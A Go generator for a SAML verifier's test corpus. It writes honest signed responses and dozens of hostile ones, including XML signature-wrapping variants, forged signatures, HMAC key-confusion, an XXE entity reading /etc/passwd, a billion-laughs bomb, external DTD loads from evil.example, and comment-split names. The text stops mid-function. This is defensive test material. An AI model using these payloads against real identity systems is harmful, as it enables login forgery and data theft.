//go:build ignore

// This program makes testdata/world.json, testdata/hostile and testdata/honest anew, with keys that it throws away.
//
//	go run ./auth/saml/gen_corpus.go ./auth/saml/testdata
package main

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"log"
	"math/big"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/beevik/etree"

	"lyceum/auth/saml"
	"lyceum/auth/saml/internal/answer"
	"lyceum/auth/saml/internal/corpus"
	"lyceum/auth/saml/internal/xmlenc"
	"lyceum/auth/saml/internal/xmlsig"
)

const (
	nsP  = "urn:oasis:names:tc:SAML:2.0:protocol"
	nsA  = "urn:oasis:names:tc:SAML:2.0:assertion"
	ds   = "http://www.w3.org/2000/09/xmldsig#"
	more = "http://www.w3.org/2001/04/xmldsig-more#"
)

type maker struct {
	dir                                 string
	idp, next, expired, curve, attacker xmlsig.Signer
	us, usBefore, stranger              *x509.Certificate
	entries                             map[string][]corpus.Entry
}

func must[T any](v T, err error) T {
	if err != nil {
		log.Fatal(err)
	}
	return v
}

func signer(key crypto.Signer, name string, from, to time.Time) xmlsig.Signer {
	t := &x509.Certificate{SerialNumber: must(rand.Int(rand.Reader, big.NewInt(1<<62))), Subject: pkix.Name{CommonName: name}, NotBefore: from, NotAfter: to}
	der := must(x509.CreateCertificate(rand.Reader, t, t, key.Public(), key))
	return xmlsig.Signer{Key: key, Certificate: must(x509.ParseCertificate(der))}
}

func rsaSigner(name string, from, to time.Time) xmlsig.Signer {
	return signer(must(rsa.GenerateKey(rand.Reader, 2048)), name, from, to)
}

func encoded(s xmlsig.Signer) string { return base64.StdEncoding.EncodeToString(s.Certificate.Raw) }

func certificate(k saml.Key) *x509.Certificate {
	return must(x509.ParseCertificate(must(base64.StdEncoding.DecodeString(k.Certificate))))
}

func main() {
	log.SetFlags(0)
	if len(os.Args) != 2 {
		log.Fatal("usage: go run gen_corpus.go TESTDATA")
	}
	now := corpus.Now()
	year := 365 * 24 * time.Hour
	m := &maker{dir: os.Args[1], entries: map[string][]corpus.Entry{}}
	m.idp = rsaSigner("idp", now.Add(-year), now.Add(year))
	m.next = rsaSigner("idp, next", now.Add(-time.Hour), now.Add(2*year))
	m.expired = rsaSigner("idp, expired", now.Add(-2*year), now.Add(-time.Hour))
	m.curve = signer(must(ecdsa.GenerateKey(elliptic.P256(), rand.Reader)), "idp, curve", now.Add(-year), now.Add(year))
	m.attacker = rsaSigner("idp", now.Add(-year), now.Add(year))
	before := must(saml.NewKey(corpus.EntityID, now.Add(-2*year), 3*year))
	current := must(saml.NewKey(corpus.EntityID, now.Add(-24*time.Hour), year))
	m.us, m.usBefore = certificate(current), certificate(before)
	m.stranger = rsaSigner("another service", now.Add(-year), now.Add(year)).Certificate

	plain := saml.NewSettings()
	plain.EntityID, plain.SSORedirect, plain.SigningCertificates = corpus.IDPEntityID, "https://idp.example/sso", []string{encoded(m.idp)}
	w := corpus.World{
		Comment:     "Made by gen_corpus.go. The private keys open nothing but the files beside this one.",
		Provider:    saml.Provider{EntityID: corpus.EntityID, ACSURL: corpus.ACSURL, SLOURL: corpus.SLOURL, Keys: []saml.Key{current, before}},
		Connections: map[string]saml.Settings{"plain": plain},
	}
	vary := func(name string, change func(*saml.Settings)) {
		s := plain
		change(&s)
		w.Connections[name] = s
	}
	tomorrow, yesterday := now.Add(24*time.Hour), now.Add(-24*time.Hour)
	vary("encrypted", func(s *saml.Settings) { s.RequireEncrypted = true })
	vary("idp_initiated", func(s *saml.Settings) { s.AllowIDPInitiated = true })
	vary("overlap", func(s *saml.Settings) { s.SigningCertificates = []string{encoded(m.idp), encoded(m.next)} })
	vary("expired", func(s *saml.Settings) { s.SigningCertificates = []string{encoded(m.expired)} })
	vary("curve", func(s *saml.Settings) { s.SigningCertificates = []string{encoded(m.curve)} })
	vary("sha1", func(s *saml.Settings) { s.AllowSHA1Until = &tomorrow })
	vary("sha1_over", func(s *saml.Settings) { s.AllowSHA1Until = &yesterday })
	vary("forced", func(s *saml.Settings) { s.ForceAuthn = true })
	vary("context", func(s *saml.Settings) { s.RequestedContext = "https://refeds.org/profile/mfa" })
	vary("employee", func(s *saml.Settings) { s.SubjectAttribute = "employeeNumber" })

	for _, dir := range []string{corpus.HonestDir, corpus.HostileDir} {
		if err := os.RemoveAll(filepath.Join(m.dir, dir)); err != nil {
			log.Fatal(err)
		}
		must(0, os.MkdirAll(filepath.Join(m.dir, dir), 0o755))
	}
	m.honest()
	m.wrapping()
	m.signatures()
	m.documents()
	m.words()
	m.encryption()
	for dir, list := range m.entries {
		must(0, os.WriteFile(filepath.Join(m.dir, dir, corpus.Manifest), indent(list), 0o644))
	}
	must(0, os.WriteFile(filepath.Join(m.dir, corpus.WorldFile), indent(w), 0o644))
	log.Printf("%d honest, %d hostile", len(m.entries[corpus.HonestDir]), len(m.entries[corpus.HostileDir]))
}

func indent(v any) []byte { return append(must(json.MarshalIndent(v, "", "  ")), '\n') }

// base is what an honest provider answers.
func (m *maker) base() answer.Answer {
	return answer.Answer{
		Issuer: corpus.IDPEntityID, ACS: corpus.ACSURL, Audience: corpus.EntityID, InResponseTo: corpus.RequestID,
		NameID: corpus.Person, NameIDFormat: saml.NameIDPersistent, SessionIndex: "session-1", Now: corpus.Now(), Signer: m.idp, SignAssertion: true,
		Attributes: []answer.Attribute{
			{Name: "urn:oid:0.9.2342.19200300.100.1.3", FriendlyName: "mail", Values: []string{corpus.Person}},
			{Name: "employeeNumber", Values: []string{"4711"}},
			{Name: "groups", Values: []string{"sales", "emea"}},
		},
	}
}

func (m *maker) put(dir string, raw []byte, e corpus.Entry) {
	if e.File == "" {
		e.File = e.Name + ".xml"
	}
	must(0, os.WriteFile(filepath.Join(m.dir, dir, e.File), raw, 0o644))
	m.entries[dir] = append(m.entries[dir], e)
}

func (m *maker) hostile(name, reason, does string, raw []byte, more ...func(*corpus.Entry)) {
	e := corpus.Entry{Name: name, Reason: reason, Does: does}
	for _, f := range more {
		f(&e)
	}
	m.put(corpus.HostileDir, raw, e)
}

func under(connection string) func(*corpus.Entry) {
	return func(e *corpus.Entry) { e.Connection = connection }
}
func unsolicited(e *corpus.Entry) { e.Unsolicited = true }

func (m *maker) bytes(change func(*answer.Answer)) []byte {
	a := m.base()
	if change != nil {
		change(&a)
	}
	return must(a.Bytes())
}

func (m *maker) tree(change func(*answer.Answer)) *etree.Element {
	doc := etree.NewDocument()
	must(0, doc.ReadFromBytes(m.bytes(change)))
	return doc.Root()
}

func write(root *etree.Element) []byte { return must(etree.NewDocumentWithRoot(root).WriteToBytes()) }

func find(root *etree.Element, path string) *etree.Element {
	el := root.FindElement(path)
	if el == nil {
		log.Fatalf("no %s in %s", path, write(root))
	}
	return el
}

func responseSigned(a *answer.Answer) { a.SignResponse, a.SignAssertion = true, false }

func (m *maker) honest() {
	put := func(name, does string, change func(*answer.Answer), more ...func(*corpus.Entry)) {
		e := corpus.Entry{Name: name, Does: does}
		for _, f := range more {
			f(&e)
		}
		m.put(corpus.HonestDir, m.bytes(change), e)
	}
	put("assertion_signed", "the assertion is signed", nil)
	put("response_signed", "the response is signed", responseSigned)
	put("both_signed", "both are signed", func(a *answer.Answer) { a.SignResponse = true })
	put("no_key_info", "the signature names no certificate", func(a *answer.Answer) { a.Signer.OmitKeyInfo = true })
	put("overlap_first", "two certificates, no KeyInfo, the first one signs", func(a *answer.Answer) { a.Signer.OmitKeyInfo = true }, under("overlap"))
	put("overlap_second", "two certificates, no KeyInfo, the second one signs", func(a *answer.Answer) { a.Signer = m.next; a.Signer.OmitKeyInfo = true }, under("overlap"))
	put("overlap_named", "two certificates, KeyInfo names the second one", func(a *answer.Answer) { a.Signer = m.next }, under("overlap"))
	put("expired_certificate", "the pinned certificate has expired", func(a *answer.Answer) { a.Signer = m.expired }, under("expired"))
	put("ecdsa", "signed with ECDSA on P-256, r and s side by side", func(a *answer.Answer) { a.Signer = m.curve }, under("curve"))
	put("rsa_sha512", "signed with RSA-SHA512", func(a *answer.Answer) { a.Signer.Method = xmlsig.RSASHA512 })
	put("sha1_within_its_exception", "signed with SHA-1 before the exception ends", func(a *answer.Answer) { a.Signer.Method = xmlsig.RSASHA1 }, under("sha1"))
	put("encrypted_aes256gcm", "signed, then encrypted with AES-256-GCM", func(a *answer.Answer) { a.Encrypt = m.us }, under("encrypted"))
	put("encrypted_aes128gcm", "signed, then encrypted with AES-128-GCM", func(a *answer.Answer) { a.Encrypt = m.us; a.Recipe.Content = xmlenc.AES128GCM }, under("encrypted"))
	put("encrypted_aes256cbc", "signed, then encrypted with AES-256-CBC", func(a *answer.Answer) { a.Encrypt = m.us; a.Recipe.Content = xmlenc.AES256CBC }, under("encrypted"))
	put("encrypted_oaep_sha256", "the key is wrapped with RSA-OAEP of 2009 and SHA-256", func(a *answer.Answer) {
		a.Encrypt, a.Recipe.Key, a.Recipe.Digest = m.us, xmlenc.OAEP, xmlenc.Namespace+"sha256"
	})
	put("encrypted_then_signed", "encrypted, and the response is signed around it", func(a *answer.Answer) { responseSigned(a); a.Encrypt = m.us })
	put("encrypted_for_the_previous_key", "our key was rolled, and the provider has not seen it yet", func(a *answer.Answer) { a.Encrypt = m.usBefore })
	put("begun_by_the_provider", "no request, where the tenant allows it", func(a *answer.Answer) { a.InResponseTo = "" }, under("idp_initiated"), unsolicited)
	put("asked_where_both_are_allowed", "an answer to a request, where the provider may also begin", nil, under("idp_initiated"))
	put("subject_from_an_attribute", "the name ID is transient, the settings name an attribute", func(a *answer.Answer) { a.NameIDFormat = saml.NameIDTransient }, under("employee"),
		func(e *corpus.Entry) { e.Subject = "4711" })
	put("within_the_skew", "the provider's clock is 50 seconds ahead", func(a *answer.Answer) { a.Now = a.Now.Add(50 * time.Second) })
	put("two_confirmations", "a holder-of-key confirmation stands before the bearer one", func(a *answer.Answer) {
		a.TamperAssertion = func(el *etree.Element) {
			bearer := find(el, "./Subject/SubjectConfirmation")
			other := bearer.Copy()
			other.CreateAttr("Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key")
			bearer.Parent().InsertChildAt(bearer.Index(), other)
		}
	})
	put("many_groups", "a person in 1,200 groups", func(a *answer.Answer) {
		for i := range 1200 {
			a.Attributes[2].Values = append(a.Attributes[2].Values, fmt.Sprintf("g%04d", i))
		}
	})
	put("comment_between_elements", "a comment where no value is", func(a *answer.Answer) {
		a.TamperAssertion = func(el *etree.Element) { el.CreateComment("made by an identity provider") }
	})
	pretty := m.tree(func(a *answer.Answer) { a.Signer.OmitKeyInfo = true })
	value := find(pretty, "./Assertion/Signature/SignatureValue")
	text := value.Text()
	value.SetText("\n" + text[:76] + "\r\n  " + text[76:] + "\n")
	m.put(corpus.HonestDir, write(pretty), corpus.Entry{Name: "broken_lines", Does: "the signature's base64 has line breaks and spaces"})
	encryptedID := m.base()
	encryptedID.TamperAssertion = func(el *etree.Element) {
		name := find(el, "./Subject/NameID")
		name.CreateAttr("xmlns:saml", nsA)
		data := must(xmlenc.Encrypt(write(name.Copy()), m.us, xmlenc.Recipe{}))
		parent := name.Parent()
		parent.RemoveChild(name)
		sealed := etree.NewElement("saml:EncryptedID")
		sealed.AddChild(data)
		parent.InsertChildAt(0, sealed)
	}
	m.put(corpus.HonestDir, must(encryptedID.Bytes()), corpus.Entry{Name: "encrypted_id", Does: "the name ID alone is encrypted"})
}

// evil turns an assertion or response into the attacker's: another person, another ID.
func evil(el *etree.Element) *etree.Element {
	el.CreateAttr("ID", "_evil")
	if inner := el.FindElement("./Assertion"); inner != nil {
		inner.CreateAttr("ID", "_evil_assertion")
	}
	for _, name := range el.FindElements(".//NameID") {
		name.SetText(corpus.Mallory)
	}
	return el
}

func unsigned(el *etree.Element) *etree.Element {
	if sig := el.FindElement("./Signature"); sig != nil {
		el.RemoveChild(sig)
	}
	return el
}

// wrapping is the eight attacks of Somorovsky and others ("On Breaking SAML", 2012) and their kin: what was signed stays whole and is moved to
// where only the signature's check finds it.
func (m *maker) wrapping() {
	put := func(name, reason, does string, root *etree.Element) { m.hostile(name, reason, does, write(root)) }

	// 1, 2: the response is signed.
	original := m.tree(responseSigned)
	wrapped := evil(original.Copy())
	find(wrapped, "./Signature").AddChild(unsigned(original.Copy()))
	put("xsw1", "one_assertion", "the signed response inside the signature of the evil one", wrapped)

	wrapped = evil(original.Copy())
	sig := find(wrapped, "./Signature")
	wrapped.InsertChildAt(sig.Index(), unsigned(original.Copy()))
	put("xsw2", "one_assertion", "the signed response beside its signature in the evil one", wrapped)

	// 3 to 8: the assertion is signed.
	original = m.tree(nil)
	signed := func() *etree.Element { return find(original, "./Assertion").Copy() }
	without := func() *etree.Element {
		r := original.Copy()
		r.RemoveChild(find(r, "./Assertion"))
		return r
	}
	r := without()
	r.AddChild(evil(unsigned(signed())))
	r.AddChild(signed())
	put("xsw3", "one_assertion", "an evil assertion before the signed one", r)

	r = without()
	e := evil(unsigned(signed()))
	e.AddChild(signed())
	r.AddChild(e)
	put("xsw4", "one_assertion", "the signed assertion inside the evil one", r)

	r = without()
	r.AddChild(evil(signed()))
	r.AddChild(unsigned(signed()))
	put("xsw5", "one_assertion", "the evil assertion carries the signature, the signed one follows", r)

	r = without()
	e = evil(signed())
	find(e, "./Signature").AddChild(unsigned(signed()))
	r.AddChild(e)
	put("xsw6", "one_assertion", "the signed assertion inside the signature that the evil one carries", r)

	r = without()
	x := etree.NewElement("samlp:Extensions")
	x.AddChild(evil(signed()))
	r.AddChild(x)
	r.AddChild(signed())
	put("xsw7", "one_assertion", "the evil assertion in Extensions", r)

	r = without()
	e = evil(signed())
	object := find(e, "./Signature").CreateElement("ds:Object")
	object.AddChild(unsigned(signed()))
	r.AddChild(e)
	put("xsw8", "one_assertion", "the signed assertion in an Object of the signature", r)

	whole := m.tree(responseSigned)
	r = evil(unsigned(whole.Copy()))
	find(r, "./Status").CreateElement("samlp:StatusDetail").AddChild(whole.Copy())
	put("xsw9", "one_assertion", "the signed response in the StatusDetail of the evil one", r)

	r = without()
	e = evil(unsigned(signed()))
	e.CreateElement("saml:Advice").AddChild(signed())
	r.AddChild(e)
	put("xsw_advice", "one_assertion", "the signed assertion as Advice of the evil one", r)

	r = without()
	e = evil(signed())
	find(e, "./Subject/SubjectConfirmation/SubjectConfirmationData").AddChild(unsigned(signed()))
	r.AddChild(e)
	put("xsw_confirmation_data", "one_assertion", "the signed assertion in the confirmation data of the evil one", r)

	r = without()
	e = evil(signed())
	value := find(e, ".//AttributeValue")
	value.SetText("")
	value.AddChild(unsigned(signed()))
	r.AddChild(e)
	put("xsw_attribute_value", "one_assertion", "the signed assertion as an attribute's value of the evil one", r)

	r = without()
	e = unsigned(signed())
	id := e.SelectAttrValue("ID", "")
	evil(e).CreateAttr("ID", id)
	r.AddChild(e)
	r.AddChild(signed())
	put("xsw_same_id", "ids", "the evil assertion has the ID of the signed one", r)

	r = without()
	e = evil(signed())
	inner := unsigned(signed())
	inner.Space, inner.Tag = "x", "Assertion"
	inner.CreateAttr("xmlns:x", "urn:example:other")
	e.AddChild(inner)
	r.AddChild(e)
	put("xsw_other_namespace", "one_assertion", "the second assertion hides in another namespace", r)

	r = original.Copy()
	sig = find(r, "./Assertion/Signature")
	sig.Parent().RemoveChild(sig)
	r.CreateElement("samlp:Extensions").AddChild(sig)
	put("signature_in_extensions", "signature_shape", "the signature stands in Extensions of the response", r)

	r = original.Copy()
	sig = find(r, "./Assertion/Signature")
	find(r, "./Assertion/Conditions").AddChild(sig.Copy())
	put("signature_twice", "ids", "the signature stands in the assertion and once more below, with an ID of its own", withID(r, sig))

	r = original.Copy()
	find(r, "./Assertion/Subject/NameID").SetText(corpus.Mallory)
	put("tampered_name", "signature", "the name was changed after signing", r)

	r = m.tree(responseSigned)
	find(r, "./Assertion/Subject/NameID").SetText(corpus.Mallory)
	put("tampered_name_in_signed_response", "signature", "the name was changed after the response was signed", r)

	r = m.tree(func(a *answer.Answer) { a.SignResponse = true })
	r.CreateAttr("InResponseTo", corpus.RequestID)
	r.CreateAttr("Consent", "urn:example:changed")
	put("response_signature_broken_assertion_whole", "signature", "the assertion's signature holds, the response's does not", r)
}

func withID(root, sig *etree.Element) *etree.Element {
	for _, s := range root.FindElements("//Signature") {
		s.CreateAttr("Id", "twice")
	}
	return root
}

func (m *maker) signatures() {
	m.hostile("unsigned", "signature", "nothing is signed", m.bytes(func(a *answer.Answer) { a.SignAssertion = false }))
	m.hostile("signed_by_another", "signature", "signed by a key that is not pinned, its certificate beside it", m.bytes(func(a *answer.Answer) { a.Signer = m.attacker }))
	m.hostile("signed_by_another_without_key_info", "signature", "signed by a key that is not pinned", m.bytes(func(a *answer.Answer) { a.Signer = m.attacker; a.Signer.OmitKeyInfo = true }))
	r := m.tree(func(a *answer.Answer) { a.Signer = m.attacker })
	find(r, "//X509Certificate").SetText(encoded(m.idp))
	m.hostile("borrowed_certificate", "signature", "signed by the attacker, KeyInfo names the pinned certificate", write(r))
	r = m.tree(func(a *answer.Answer) { a.Signer = m.attacker })
	public := m.attacker.Key.Public().(*rsa.PublicKey)
	info := find(r, "//KeyInfo")
	info.RemoveChild(find(info, "./X509Data"))
	v := info.CreateElement("ds:KeyValue").CreateElement("ds:RSAKeyValue")
	v.CreateElement("ds:Modulus").SetText(base64.StdEncoding.EncodeToString(public.N.Bytes()))
	v.CreateElement("ds:Exponent").SetText("AQAB")
	m.hostile("key_value", "signature", "the attacker's bare key stands in KeyInfo", write(r))
	m.hostile("certificate_that_was_replaced", "signature", "signed by the provider's old certificate after it was removed", m.bytes(func(a *answer.Answer) { a.Signer = m.expired }))

	swap := func(name, reason, does, path, attr, value string) {
		r := m.tree(nil)
		find(r, path).CreateAttr(attr, value)
		m.hostile(name, reason, does, write(r))
	}
	swap("algorithm_none", "algorithm", "no signature algorithm", "//SignatureMethod", "Algorithm", "")
	swap("algorithm_md5", "algorithm", "RSA with MD5", "//SignatureMethod", "Algorithm", more+"rsa-md5")
	swap("algorithm_dsa", "algorithm", "DSA with SHA-1", "//SignatureMethod", "Algorithm", ds+"dsa-sha1")
	swap("algorithm_other_family", "signature", "ECDSA claimed for an RSA key", "//SignatureMethod", "Algorithm", more+"ecdsa-sha256")
	swap("digest_md5", "algorithm", "the digest is MD5", "//DigestMethod", "Algorithm", more+"md5")
	swap("digest_sha1", "algorithm", "the digest is SHA-1 under a SHA-256 signature", "//DigestMethod", "Algorithm", ds+"sha1")
	swap("canonicalization_unknown", "algorithm", "an unknown canonicalisation", "//CanonicalizationMethod", "Algorithm", "urn:example:c14n")
	swap("reference_empty", "signature_shape", "the reference is the whole document", "//Reference", "URI", "")
	swap("reference_elsewhere", "signature_shape", "the reference is another ID", "//Reference", "URI", "#_elsewhere")
	swap("reference_external", "signature_shape", "the reference is an address", "//Reference", "URI", "https://evil.example/assertion.xml")
	swap("reference_xpointer", "signature_shape", "the reference is an XPointer", "//Reference", "URI", "#xpointer(id('x'))")
	swap("transform_xpath", "signature_shape", "an XPath transform", "//Transform[2]", "Algorithm", "http://www.w3.org/TR/1999/REC-xpath-19991116")
	swap("transform_xslt", "signature_shape", "an XSLT transform", "//Transform[2]", "Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
	swap("transform_base64", "signature_shape", "a base64 transform", "//Transform[1]", "Algorithm", ds+"base64")

	r = m.tree(nil)
	transforms := find(r, "//Transforms")
	for range 200 {
		transforms.AddChild(find(r, "//Transform[2]").Copy())
	}
	m.hostile("transforms_many", "signature_shape", "two hundred transforms", write(r))
	r = m.tree(nil)
	find(r, "//Transform[2]").CreateElement("ds:XPath").SetText("count(//. | //@* | //namespace::*)")
	m.hostile("transform_parameter", "signature_shape", "an XPath expression inside a transform", write(r))
	r = m.tree(nil)
	info = find(r, "//SignedInfo")
	info.AddChild(find(r, "//Reference").Copy())
	m.hostile("two_references", "signature_shape", "two references in one signature", write(r))
	r = m.tree(nil)
	sig := find(r, "./Assertion/Signature")
	second := info.Copy()
	sig.AddChild(second)
	m.hostile("two_signed_infos", "signature_shape", "two SignedInfo in one signature", write(r))
	r = m.tree(nil)
	find(r, "./Assertion").AddChild(find(r, "./Assertion/Signature").Copy())
	m.hostile("two_signatures", "signature_shape", "two signatures directly in the assertion", write(r))
	r = m.tree(nil)
	find(r, "./Assertion/Signature").CreateElement("ds:Object").SetText("hidden")
	m.hostile("signature_object", "signature_shape", "an Object in the signature", write(r))
	r = m.tree(nil)
	find(r, "//SignatureMethod").CreateElement("ds:HMACOutputLength").SetText("0")
	m.hostile("hmac_truncation", "signature_shape", "an output length in the signature method", write(r))
	r = m.tree(nil)
	find(r, "//SignatureValue").SetText("")
	m.hostile("signature_value_empty", "signature", "the signature's value is empty", write(r))
	r = m.tree(nil)
	find(r, "//DigestValue").SetText("")
	m.hostile("digest_value_empty", "signature", "the digest's value is empty", write(r))

	for _, key := range []struct {
		name string
		key  []byte
	}{
		{"key_confusion_pem", pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: m.idp.Certificate.Raw})},
		{"key_confusion_der", m.idp.Certificate.RawSubjectPublicKeyInfo},
	} {
		r := m.tree(nil)
		find(r, "./Assertion/Subject/NameID").SetText(corpus.Mallory)
		find(r, "//SignatureMethod").CreateAttr("Algorithm", more+"hmac-sha256")
		mac := hmac.New(sha256.New, key.key)
		mac.Write(write(find(r, "//SignedInfo").Copy()))
		find(r, "//SignatureValue").SetText(base64.StdEncoding.EncodeToString(mac.Sum(nil)))
		m.hostile(key.name, "algorithm", "HMAC with the provider's public key as its secret", write(r))
	}
	m.hostile("sha1", "algorithm", "signed with SHA-1", m.bytes(func(a *answer.Answer) { a.Signer.Method = xmlsig.RSASHA1 }))
	m.hostile("sha1_after_its_exception", "algorithm", "signed with SHA-1 a day after the exception ended", m.bytes(func(a *answer.Answer) { a.Signer.Method = xmlsig.RSASHA1 }), under("sha1_over"))
}

func (m *maker) documents() {
	honest := string(m.bytes(nil))
	prefixed := func(name, reason, does, prefix string) { m.hostile(name, reason, does, []byte(prefix+honest)) }
	prefixed("dtd", "dtd", "a document type declaration", `<!DOCTYPE samlp:Response>`)
	prefixed("dtd_external", "dtd", "an external DTD", `<!DOCTYPE samlp:Response SYSTEM "https://evil.example/x.dtd">`)
	prefixed("dtd_parameter_entity", "dtd", "a parameter entity that loads", `<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]>`)
	m.hostile("xxe", "dtd", "an entity that reads a file, as the name", []byte(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`+strings.Replace(honest, ">"+corpus.Person+"</saml:NameID>", ">&x;</saml:NameID>", 1)))
	laughs := `<!DOCTYPE r [<!ENTITY a "ha">`
	for i := 'b'; i < 'l'; i++ {
		laughs += fmt.Sprintf(`<!ENTITY %c "%s">`, i, strings.Repeat(fmt.Sprintf("&%c;", i-1), 10))
	}
	m.hostile("billion_laughs", "dtd", "entities that grow to a billion", []byte(laughs+`]>`+strings.Replace(honest, ">"+corpus.Person+"</saml:NameID>", ">&k;</saml:NameID>", 1)))
	m.hostile("entity_undefined", "xml", "an entity that nobody declared", []byte(strings.Replace(honest, ">"+corpus.Person+"</saml:NameID>", ">&x;</saml:NameID>", 1)))
	m.hostile("oversized", "size", "more than 256 KiB", []byte(honest), func(e *corpus.Entry) { e.Padding = saml.MaxMessage })
	m.hostile("oversized_base64", "size", "so much base64 that it is not decoded", []byte(honest), func(e *corpus.Entry) { e.Padding = 3 * saml.MaxMessage })
	m.hostile("not_base64", "base64", "no base64 at all", []byte("<<<not base64>>>"), func(e *corpus.Entry) { e.File = "not_base64.b64" })
	m.hostile("empty", "xml", "nothing", nil, func(e *corpus.Entry) { e.File = "empty.b64" })
	m.hostile("not_xml", "xml", "no XML", []byte("hello"))
	m.hostile("cut_off", "xml", "the end is missing", []byte(honest[:len(honest)-30]))
	m.hostile("two_roots", "xml", "a second response after the first", []byte(honest+honest))
	m.hostile("text_after_root", "xml", "text after the root", []byte(honest+"trailing"))
	m.hostile("not_utf8", "xml", "bytes that are not UTF-8", []byte(strings.Replace(honest, corpus.Person, "ann\xff@acme.example", 1)))
	prefixed("other_charset", "xml", "declared as UTF-16", `<?xml version="1.0" encoding="UTF-16"?>`)
	m.hostile("deep", "xml", "a hundred elements deep", []byte(strings.Repeat("<a>", 100)+strings.Repeat("</a>", 100)))
	m.hostile("wide", "xml", "twenty thousand elements", []byte("<a>"+strings.Repeat("<b/>", 20000)+"</a>"))
	m.hostile("attribute_twice", "xml", "an attribute twice", []byte(strings.Replace(honest, `Version="2.0"`, `Version="2.0" Version="2.0"`, 1)))
	m.hostile("name_with_colon", "xml", "a name that begins with a colon", []byte(strings.Replace(honest, "<samlp:Status>", "<samlp:Status><:x/>", 1)))
	m.hostile("attribute_with_colon", "xml", "an attribute whose name ends with a colon", []byte(strings.Replace(honest, "<samlp:Status>", `<samlp:Status a:="b">`, 1)))
	m.hostile("comment_in_name", "comment", "a comment splits the name", []byte(strings.Replace(honest, ">"+corpus.Person+"<", ">ann<!-- -->@acme.example<", 1)))
	m.hostile("comment_at_the_end_of_name", "comment", "a signed name is cut by a comment", []byte(strings.Replace(honest, ">"+corpus.Person+"<", ">ann@acme.example<!---->.evil.example<", 1)))
	m.hostile("comment_in_audience", "comment", "a comment splits the audience", []byte(strings.Replace(honest, "<saml:Audience>https://acme", "<saml:Audience>https:<!---->//acme", 1)))
	m.hostile("instruction_in_name", "comment", "a processing instruction splits the name", []byte(strings.Replace(honest, ">"+corpus.Person+"<", ">ann<?x y?>@acme.example<", 1)))
	m.hostile("comment_in_name_signed", "comment", "the provider itself signs a name with a comment, canonicalised with comments", m.bytes(func(a *answer.Answer) {
		a.TamperAssertion = func(el *etree.Element) {
			name := find(el, "./Subject/NameID")
			name.SetText("ann@acme.example")
			name.CreateComment("x")
			name.CreateText(".evil.example")
		}
	}))
	m.hostile("ids_twice", "ids", "the response and the assertion have one ID", m.bytes(func(a *answer.Answer) { a.ID, a.AssertionID = "_same", "_same" }))
	r := m.tree(nil)
	find(r, "./Assertion").CreateAttr("samlp:ID", "_other")
	m.hostile("id_under_a_prefix", "ids", "a second ID under a prefix", write(r))
	r = m.tree(nil)
	find(r, "./Assertion").CreateAttr("xml:id", "_other")
	m.hostile("xml_id", "ids", "a second ID as xml:id", write(r))
	r = m.tree(nil)
	find(r, "./Assertion/Subject").CreateAttr("Id", find(r, "./Assertion").SelectAttrValue("ID", ""))
	m.hostile("ids_in_other_case", "ids", "the assertion's ID once more as Id", write(r))
	m.hostile("other_namespace", "message", "a Response of no namespace of SAML", []byte(strings.Replace(honest, nsP, "urn:example:protocol", 1)))
	m.hostile("prefix_undeclared", "message", "the prefix of the response is not declared", []byte(strings.Replace(honest, ` xmlns:samlp="`+nsP+`"`, "", 1)))
	m.hostile("assertion_of_other_namespace", "one_assertion", "an Assertion of another namespace", []byte(strings.ReplaceAll(honest, nsA, "urn:example:assertion")))
	m.hostile("saml_1", "message", "version 1.1", []byte(strings.Replace(honest, `Version="2.0"`, `Version="1.1"`, 1)))
	m.hostile("assertion_alone", "message", "an assertion without a response", write(find(m.tree(nil), "./Assertion").Copy()))
	m.hostile("logout_response", "message", "a signed logout response at the wrong door", []byte(strings.ReplaceAll(honest, "samlp:Response", "samlp:LogoutResponse")))
	m.hostile("no_assertion", "one_assertion", "success and no assertion", m.bytes(func(a *answer.Answer) {
		responseSigned(a)
		a.TamperResponse = func(el *etree.Element) { el.RemoveChild(find(el, "./Assertion")) }
	}))
	m.hostile("two_signed_assertions", "one_assertion", "two assertions, both signed", write(m.with(m.tree(nil), find(m.tree(nil), "./Assertion").Copy())))
	m.hostile("unsigned_after_signed", "one_assertion", "an evil assertion after the signed one", write(m.with(m.tree(nil), evil(unsigned(find(m.tree(nil), "./Assertion").Copy())))))
	sealed := must(answer.Seal(evil(unsigned(find(m.tree(nil), "./Assertion").Copy())), m.us, xmlenc.Recipe{}))
	m.hostile("encrypted_beside_plain", "one_assertion", "an encrypted evil assertion beside the signed one", write(m.with(m.tree(nil), sealed)))
}

func (m *maker) with(root, extra *etree.Element) *etree.Element { root.AddChild(extra); return root }

// words are answers that a provider's key really signed, and that say the wrong thing.
func (m *maker) words() {
	put := func(name, reason, does string, change func(*answer.Answer), more ...func(*corpus.Entry)) {
		m.hostile(name, reason, does, m.bytes(change), more...)
	}
	edit := func(name, reason, does, path string, change func(*etree.Element), more ...func(*corpus.Entry)) {
		put(name, reason, does, func(a *answer.Answer) {
			a.TamperAssertion = func(el *etree.Element) {
				at := el
				if path != "" {
					at = find(el, path)
				}
				change(at)
			}
		}, more...)
	}
	remove := func(el *etree.Element) { el.Parent().RemoveChild(el) }
	twice := func(el *etree.Element) { el.Parent().InsertChildAt(el.Index(), el.Copy()) }
	set := func(key, value string) func(*etree.Element) {
		return func(el *etree.Element) { el.CreateAttr(key, value) }
	}
	unset := func(key string) func(*etree.Element) { return func(el *etree.Element) { el.RemoveAttr(key) } }
	at := func(d time.Duration) string { return corpus.Now().Add(d).Format(time.RFC3339) }
	const confirmation, data = "./Subject/SubjectConfirmation", "./Subject/SubjectConfirmation/SubjectConfirmationData"

	put("wrong_audience", "audience", "meant for another tenant at the same provider", func(a *answer.Answer) { a.Audience = "https://globex.example/saml" })
	edit("no_audience", "audience", "no AudienceRestriction: good anywhere", "./Conditions/AudienceRestriction", remove)
	edit("audience_empty", "audience", "an AudienceRestriction without an audience", "./Conditions/AudienceRestriction/Audience", remove)
